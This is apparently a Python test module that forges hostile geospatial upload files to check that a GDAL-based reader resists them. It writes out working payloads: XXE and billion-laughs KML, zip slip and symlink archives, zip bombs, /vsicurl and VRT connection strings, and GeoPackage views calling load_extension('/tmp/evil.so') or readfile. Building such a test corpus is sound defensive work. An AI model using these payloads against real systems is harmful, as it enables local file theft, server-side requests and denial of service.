"""Files made to harm, by kind. `{canary}` is a file that must not be read, `{url}` a server that
must not be asked; both stand in the files wherever a careless reader would follow them."""

import json
import stat
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.core.hostile import forge
from tests.core.hostile.forge import DISTRICT, GEOJSON, packed
from tests.core.hostile.tables import TABLES

MB = 1 << 20


@dataclass(frozen=True)
class Sample:
    """`door` is what reads it: ``layer`` or ``table``. `data` None: the name alone is the attack."""

    kind: str
    name: str
    data: bytes | None
    door: str


def corpus(folder: Path, canary: Path, url: str) -> Iterator[Sample]:
    for kind, forger in FORGERS.items():
        for name, data in forger(folder, str(canary), url):
            doors = ("layer", "table") if kind in _BOTH else (_door(kind),)
            for door in doors:
                yield Sample(kind, name, data, door)


# Both readers meet these.
_BOTH = {"connection string", "polyglot", "no file of ours", "truncated"}


def _door(kind: str) -> str:
    return "table" if kind.startswith(("xlsx", "csv")) else "layer"


def _vrt(folder, canary, url):
    for source in (canary, f"/vsicurl/{url}/a.json", f"/vsizip/{canary}", "PG:dbname=wuse"):
        vrt = f"""<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>{source}</SrcDataSource>
            </OGRVRTLayer></OGRVRTDataSource>""".encode()
        yield "upload.geojson", vrt
    for name in ("upload.gpkg", "upload.shp", "upload.kml", "upload.zip"):
        yield name, vrt
    yield "commented.kml", b"<!-- <kml> -->\n" + vrt
    yield "inside.zip", packed({"a.geojson": vrt})
    yield (
        "wms.kml",
        f"<GDAL_WMS><Service><ServerUrl>{url}</ServerUrl></Service></GDAL_WMS>".encode(),
    )
    yield "wfs.kml", f"<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>".encode()


def _connection_strings(folder, canary, url):
    for name in (
        "PG:host=127.0.0.1 dbname=wuse",
        f"/vsicurl/{url}/a.geojson",
        f"/vsizip/{canary}",
        f"/vsisubfile/0_100,{canary}",
        "/vsistdin/",
        f"GeoJSON:{canary}",
        f"VRT:{canary}",
        f"WFS:{url}/wfs",
        f'<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>{canary}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>',
        '{"type": "FeatureCollection", "features": []}',
        "ODBC:DSN=wuse",
        "SQLITE:wuse",
    ):
        yield name, None


def _kml_entities(folder, canary, url):
    for before in (
        f'<!DOCTYPE kml [<!ENTITY x SYSTEM "file://{canary}">]>',
        f'<!DOCTYPE kml [<!ENTITY x SYSTEM "{url}/x">]>',
        f'<!DOCTYPE kml [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;]>',
        f'<!DOCTYPE kml SYSTEM "{url}/k.dtd">',
        f'<!DOCTYPE kml PUBLIC "-//x" "file://{canary}">',
    ):
        yield "xxe.kml", forge.kml(forge.placemark("113.8,34", "&x;"), before)
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{}"/>'
    yield "xinclude.kml", forge.kml(include.format(f"file://{canary}"))
    yield "xxe.kmz", packed({"doc.kml": forge.kml(forge.placemark("1,1", "&x;"), before)})


def _laughs(folder, canary, url):
    ten = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 20))
    laughs = f"<!DOCTYPE kml [<!ENTITY a0 'ha'>{ten}]>"
    yield "laughs.kml", forge.kml(forge.placemark("1,1", "&a19;"), laughs)
    quadratic = f"<!DOCTYPE kml [<!ENTITY a '{'x' * 100_000}'>]>"
    yield "quadratic.kml", forge.kml(forge.placemark("1,1", "&a;" * 50_000), quadratic)
    parameter = "<!DOCTYPE kml [<!ENTITY % a 'x'>" + "<!ENTITY % b '%a;%a;'>" * 9 + "]>"
    yield "parameter.kml", forge.kml(forge.placemark("1,1"), parameter)


def _kml_links(folder, canary, url):
    for target in (f"file://{canary}", url, f"//{url}", "\\\\127.0.0.1\\share\\a.kml"):
        link = f"<NetworkLink><Link><href>{target}</href></Link></NetworkLink>"
        yield "link.kml", forge.kml(link)
    region = f"<GroundOverlay><Icon><href>{url}/a.png</href></Icon></GroundOverlay>"
    yield "overlay.kml", forge.kml(region)
    yield "link.ovkml", forge.kml(f"<NetworkLink><Url><href>{url}</href></Url></NetworkLink>")
    schema = f'<Schema schemaUrl="file://{canary}" name="s"/><SchemaUrl>{url}</SchemaUrl>'
    yield "schema.kml", forge.kml(schema)


def _ovkml(folder, canary, url):
    mixed = "".join(
        f"<Placemark><OvCoordType>{kind}</OvCoordType><Point><coordinates>113,34</coordinates></Point></Placemark>"
        for kind in ("GCJ02", f"file://{canary}")
    )
    yield "mixed.ovkml", forge.kml(mixed)
    yield "binary.ovobj", b"OviO" + bytes(2000)
    yield "objects.ovjsn", json.dumps({"ObjItems": [{"Object": {"File": canary}}]}).encode()


def _deep(folder, canary, url):
    yield "open.geojson", b'{"a":' + b"[" * 200_000
    yield "deep.geojson", b'{"a":' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    yield "objects.geojson", b'{"a":' * 200_000 + b"1" + b"}" * 200_000
    collection = b'{"type":"GeometryCollection","geometries":['
    yield "geometries.geojson", collection * 40_000 + b"]}" * 40_000
    yield "deep.kml", b"<kml>" + b"<Folder>" * 200_000 + b"</Folder>" * 200_000 + b"</kml>"
    many = "<MultiGeometry>" * 100_000 + "</MultiGeometry>" * 100_000
    yield "multi.kml", forge.kml(f"<Placemark>{many}</Placemark>")


def _numbers(folder, canary, url):
    ring = "[[[113.8,34],[113.9,34],[113.9,34.1],[{},{}],[113.8,34]]]"
    for bad in ("NaN", "Infinity", "-Infinity", "1e400", "-1e999", "1" * 400):
        yield f"{bad[:9]}.geojson", forge.feature(ring.format(bad, "34"))
    yield "digits.geojson", forge.feature(ring.format("9" * 100_000, "34"))
    yield "text.geojson", forge.feature(ring.format('"113"', "34"))
    yield "null.geojson", forge.feature(ring.format("null", "34"))
    for bad in ("nan,nan", "inf,34", "1e999,34", "１１３,abc"):
        yield "numbers.kml", forge.kml(forge.placemark(bad))


def _vertices(folder, canary, url):
    many = ",".join(["[1,1]"] * 10_000_000)
    yield "ten-million.geojson", forge.feature(f"[[{many}]]")
    yield "ten-million.zip", packed({"a.geojson": forge.feature(f"[[{many}]]")})
    yield "lists.geojson", b'{"type":"FeatureCollection","features":[' + b"[]," * 6_000_000 + b"1]}"
    yield (
        "objects.geojson",
        b'{"type":"FeatureCollection","features":[' + b"{}," * 6_000_000 + b"1]}",
    )
    yield "floats.geojson", forge.feature("[" + "1.5," * 12_000_000 + "1]")
    yield "million.kml", forge.kml(forge.placemark("1.5,1.5 " * 5_000_000))
    yield "elements.kml", b"<kml>" + b"<a/>" * 12_000_000 + b"</kml>"
    points = struct.pack("<2d", 113.5, 34.5) * 3_000_000
    head = struct.pack("<i4d2ii", 5, 113, 34, 115, 35, 1, 3_000_000, 0)
    record = struct.pack(">2i", 1, (len(head) + len(points)) // 2) + head + points
    yield "three-million.zip", forge.shapefile(shp=forge.shp(record), shx=None, dbf=None)
    nulls = b"".join(struct.pack(">2i", n, 2) + bytes(4) for n in range(1, 1_000_001))
    yield "nulls.zip", forge.shapefile(shp=forge.shp(nulls), shx=None, dbf=None)


def _slips(folder, canary, url):
    for name in (
        "../../a.geojson", "/etc/a.geojson", "..\\..\\a.shp", "C:\\a.gpkg", "a/../../b.kml", canary,
    ):  # fmt: skip
        yield "slip.zip", packed({name: GEOJSON})
    yield "two.zip", packed({"a.geojson": GEOJSON, f"../{canary}": b"x"})


def _specials(folder, canary, url):
    for name, mode in (("a.geojson", stat.S_IFLNK), ("a.shp", stat.S_IFLNK), ("a.kml", stat.S_IFIFO),
                       ("a.gpkg", stat.S_IFCHR), ("a.geojson", stat.S_IFBLK), ("a.kml", stat.S_IFSOCK)):  # fmt: skip
        yield "special.zip", forge.special(name, canary.encode(), mode)
    folder_link = forge.special("layer", canary.encode(), stat.S_IFLNK)
    yield "folder.zip", folder_link


def _bombs(folder, canary, url):
    yield "ratio.zip", packed({"a.geojson": bytes(150 * MB)})
    yield "blanks.zip", packed({"a.kml": b"<kml>" + b" " * (60 * MB) + b"</kml>"})
    inner = packed({"a.geojson": bytes(20 * MB)})
    yield "nested.zip", packed({"b.zip": packed({"a.zip": inner})})
    yield "named.zip", packed({"a.kml": packed({"a.kml": inner})})
    yield "many.zip", packed({f"{n}.geojson": b"{}" for n in range(5_000)})
    yield "overlap.zip", forge.overlapping("0.txt", bytes(5 * MB) + GEOJSON, 40)
    yield "overlap-shp.zip", forge.overlapping("0.shp", DISTRICT[".shp"], 3)
    yield "twice.zip", forge.overlapping("a0.geojson", GEOJSON, 1) + packed({"a.txt": b"x"})
    lying = bytearray(packed({"a.geojson": GEOJSON + b" " * (50 * MB)}))
    at = lying.rindex(b"PK\x01\x02") + 24
    lying[at : at + 4] = struct.pack("<I", 1000)
    yield "lying.zip", bytes(lying)
    huge = bytearray(packed({"a.geojson": GEOJSON}))
    at = huge.rindex(b"PK\x01\x02") + 24
    huge[at : at + 4] = struct.pack("<I", 0xFFFFFFF0)
    yield "claims-4gb.zip", bytes(huge)


def _geopackages(folder, canary, url):
    register = (
        "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id)"
        " VALUES ('v', 'features', 'v', 4326)",
        "INSERT INTO gpkg_geometry_columns VALUES ('v', 'geom', 'POLYGON', 4326, 0, 0)",
        "DELETE FROM gpkg_contents WHERE table_name = 'areas'",
        "DELETE FROM gpkg_geometry_columns WHERE table_name = 'areas'",
    )
    forever = (
        "WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM r)"
        " SELECT i AS fid, i AS n, (SELECT geom FROM areas) AS geom FROM r"
    )
    for body in (
        forever,
        "SELECT fid, geom, load_extension('/tmp/evil.so') AS n FROM areas",
        f"SELECT fid, geom, readfile('{canary}') AS n FROM areas",
        f"SELECT fid, geom, ogr_geocode('{url}') AS n FROM areas",
        "SELECT fid, geom, zeroblob(1000000000) AS n FROM areas",
        "SELECT fid, geom, hex(randomblob(400000000)) AS n FROM areas",
    ):
        yield "view.gpkg", forge.geopackage(folder, f"CREATE VIEW v AS {body}", *register)
    yield (
        "view.zip",
        packed({"a.gpkg": forge.geopackage(folder, f"CREATE VIEW v AS {forever}", *register)}),
    )
    yield (
        "generated.gpkg",
        forge.geopackage(
            folder, "ALTER TABLE areas ADD COLUMN big TEXT AS (hex(zeroblob(300000000 + n)))"
        ),
    )
    yield (
        "virtual.gpkg",
        forge.geopackage(
            folder,
            "PRAGMA writable_schema = ON",
            "INSERT INTO sqlite_master VALUES ('table', 'v', 'v', 0,"
            f" 'CREATE VIRTUAL TABLE v USING VirtualOGR(''{canary}'')')",
            *register,
        ),
    )
    yield (
        "attached.gpkg",
        forge.database(
            folder,
            f"CREATE TABLE gpkg_extensions (table_name, extension_name DEFAULT '{canary}')",
            "CREATE TABLE gpkg_contents (table_name, data_type, identifier, srs_id)",
            f"INSERT INTO gpkg_contents VALUES ('file:{canary}?mode=ro', 'features', 'x', 4326)",
        ),
    )
    yield "plain.gpkg", forge.database(folder, "CREATE TABLE t (a)")
    blobs = forge.geopackage(folder, "UPDATE areas SET geom = zeroblob(100)")
    yield "blobs.gpkg", blobs
    yield "wal.gpkg", blobs[:18] + b"\x02\x02" + blobs[20:]


def _shapefiles(folder, canary, url):
    shx = bytearray(DISTRICT[".shx"])
    shx[100:108] = struct.pack(">2i", 2**30, 2**30)
    yield "index-outside.zip", forge.shapefile(shx=bytes(shx))
    shx[100:108] = struct.pack(">2i", -5, -5)
    yield "index-negative.zip", forge.shapefile(shx=bytes(shx))
    yield "index-none.zip", forge.shapefile(shx=bytes(100))
    parts = bytearray(DISTRICT[".shp"])
    parts[144:152] = struct.pack("<2i", 2**31 - 1, 2**31 - 1)
    yield "parts.zip", forge.shapefile(shp=bytes(parts))
    yield "length.zip", forge.shapefile(shp=forge.shp(b"", words=2**30))
    yield "bare.shp", forge.shp(struct.pack(">2i", 1, 2**30))
    yield "empty.shp", forge.shp(b"")
    record = struct.pack(">2i", 1, 64) + struct.pack("<i4d2i", 5, *[float("nan")] * 4, 1, 4)
    record += struct.pack("<i8d", 0, *[float("nan")] * 8)[:84]
    yield "nan.zip", forge.shapefile(shp=forge.shp(record), shx=None, dbf=None)
    yield "index.shx", DISTRICT[".shx"]


def _tables_of_shapefiles(folder, canary, url):
    good = [(b"NAME", 20)]
    for count, header, width, fields, body in (
        (2**32 - 1, 65, 21, good, b" " * 21),
        (1, 65, 60_000, good, b" " * 21),
        (1, 60_000, 21, good, b" " * 21),
        (1, 65, 0, good, b" " * 21),
        (5_000_000, 65, 1, [(b"NAME", 0)], bytes(5_000_000)),
        (3, 65, 21, good, b" " * 63),
        (1, 65, 21, [(b"", 20)], b"\xff" * 21),
        (1, 33, 21, [], b" " * 21),
    ):
        yield "table.zip", forge.shapefile(dbf=forge.dbf(count, header, width, fields, body))
    yield "table.dbf", forge.dbf(1, 65, 21, good, b" " * 21)


def _projections(folder, canary, url):
    for text in (
        canary,
        f"file://{canary}",
        f"{url}/crs.prj",
        f"+proj=longlat +nadgrids={canary}",
        f"+init={canary}:4326",
        f"/vsicurl/{url}/x.prj",
        f'GEOGCS["a",DATUM["d",SPHEROID["s",6378137,298.25]],EXTENSION["PROJ4_GRIDS","{canary}"]]',
        f'GEOGCS["a",EXTENSION["PROJ4","+proj=longlat +nadgrids={canary}"]]',
        "A" * (2 * MB),
        "GEOGCS[" * 100_000,
    ):
        yield "projection.zip", forge.shapefile(prj=text.encode())


def _polyglots(folder, canary, url):
    good = packed({"a.geojson": GEOJSON})
    book = forge.workbook([["户编号", "村代码"], ["1", "2"]])
    for name, head in (
        ("a.png", b"\x89PNG\r\n\x1a\n"), ("a.pdf", b"%PDF-1.7\n"), ("a.gif", b"GIF89a\x01\x00\x01\x00"),
        ("a.exe", b"MZ" + bytes(60)), ("a.html", b"<!doctype html><script>alert(1)</script>"),
        ("a.jpg", b"\xff\xd8\xff\xe0"),
    ):  # fmt: skip
        yield name, head + good
        yield name, head + book
    yield "a.xls", b"\xd0\xcf\x11\xe0" + book
    yield "a.geojson", b"\x1f\x8b\x08" + good


def _foreign(folder, canary, url):
    yield "a.csv", b"\x7fELF" + bytes(range(256)) * 4
    yield "a.csv", b"!<arch>\ndebian-binary" + bytes(200)
    yield "a.xlsx", b"SQLite format 3\x00" + bytes(4080)
    yield "a.xlsx", b"%PDF-1.4\n" + bytes(200)
    yield "a.csv", b"\x00" * 5_000
    yield "a.tar", bytes(257) + b"ustar\x0000" + bytes(250)
    yield "a.xlsx", b""


def _truncated(folder, canary, url):
    book = forge.workbook([["a", "b"]] + [[str(n), "x" * 50] for n in range(500)])
    for data in (book, forge.shapefile(), packed({"a.geojson": GEOJSON})):
        for share in (0.1, 0.6, 0.95):
            yield "cut.zip", data[: int(len(data) * share)]


def _locked(folder, canary, url):
    yield "locked.zip", forge.locked(packed({"a.geojson": GEOJSON}))
    yield (
        "strange.zip",
        packed({"a.geojson": GEOJSON}).replace(
            b"\x14\x00\x00\x00\x08\x00", b"\x14\x00\x00\x00\x63\x00"
        ),
    )
    yield "lzma.zip", packed({"a.geojson": bytes(150 * MB)}, zipfile.ZIP_LZMA)


FORGERS = {
    "vrt": _vrt,
    "connection string": _connection_strings,
    "xxe in kml": _kml_entities,
    "billion laughs": _laughs,
    "links in kml": _kml_links,
    "ovkml": _ovkml,
    "nesting": _deep,
    "numbers": _numbers,
    "vertices": _vertices,
    "zip slip": _slips,
    "symlink and device in zip": _specials,
    "zip bomb": _bombs,
    "geopackage": _geopackages,
    "shapefile": _shapefiles,
    "dbf": _tables_of_shapefiles,
    "projection": _projections,
    "polyglot": _polyglots,
    "no file of ours": _foreign,
    "truncated": _truncated,
    "locked zip": _locked,
} | TABLES
